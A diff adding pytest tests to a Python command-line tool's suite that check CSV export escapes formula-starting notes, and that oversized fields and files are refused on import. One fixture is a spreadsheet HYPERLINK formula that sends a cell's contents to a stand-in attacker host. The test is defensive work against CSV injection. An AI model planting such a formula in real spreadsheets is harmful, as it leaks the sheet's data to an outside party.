@@ -137,3 +137,47 @@ def test_commands_have_help(command):
     result = CliRunner().invoke(cli, [*command, "--help"])
     assert result.exit_code == 0, result.output
     assert len(result.output.splitlines()) > 4
+
+
+def test_export_neutralises_formulas_in_notes_and_reimport_restores_them(tmp_path, data_dir, shas):
+    """Notes starting with = + - @ would run as formulas in a spreadsheet (CSV injection)."""
+    notes = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "-2+3", "@SUM(A1)", "fine"]
+    with open_catalog(data_dir) as catalog:
+        for sha, note in zip(shas, notes, strict=False):
+            record_decision(catalog, sha, "accept", note=note)
+    out = tmp_path / "decisions.csv"
+    assert invoke(data_dir, "export", str(out)).exit_code == 0
+    cells = {row[0]: row[2] for row in list(csv.reader(out.open()))[1:]}
+    for sha, note in zip(shas, notes, strict=False):
+        assert cells[sha] == (note if note == "fine" else "'" + note)
+        assert not cells[sha].startswith(("=", "+", "-", "@"))
+
+    result = invoke(data_dir, "import", str(out))
+    assert result.exit_code == 0, result.output
+    assert "0 recorded, 5 already in force" in result.output
+    other = tmp_path / "other"
+    checked_catalog(other)
+    assert invoke(other, "import", str(out)).exit_code == 0
+    assert in_force(other) == in_force(data_dir)
+
+
+def test_a_cell_over_the_csv_field_limit_is_one_error_line(tmp_path, data_dir, shas):
+    sheet = tmp_path / "sheet.csv"
+    note = "x" * (csv.field_size_limit() + 1)
+    sheet.write_text(f"sha256,decision,note\n{shas[0]},accept,{note}\n")
+    result = invoke(data_dir, "import", str(sheet))
+    assert result.exit_code == 1, result.output
+    assert result.output.startswith("Error: sheet.csv line 2:") and "field larger" in result.output
+    assert review_count(data_dir) == 0
+
+
+def test_a_file_too_large_to_be_decisions_is_refused_unread(tmp_path, data_dir, shas):
+    from curate.decisions import MAX_FILE_BYTES
+
+    sheet = tmp_path / "huge.csv"
+    with sheet.open("wb") as handle:  # sparse: no disk used
+        handle.truncate(MAX_FILE_BYTES + 1)
+    result = invoke(data_dir, "import", str(sheet))
+    assert result.exit_code == 1, result.output
+    assert result.output.startswith("Error: huge.csv is ") and "limit" in result.output
+    assert review_count(data_dir) == 0
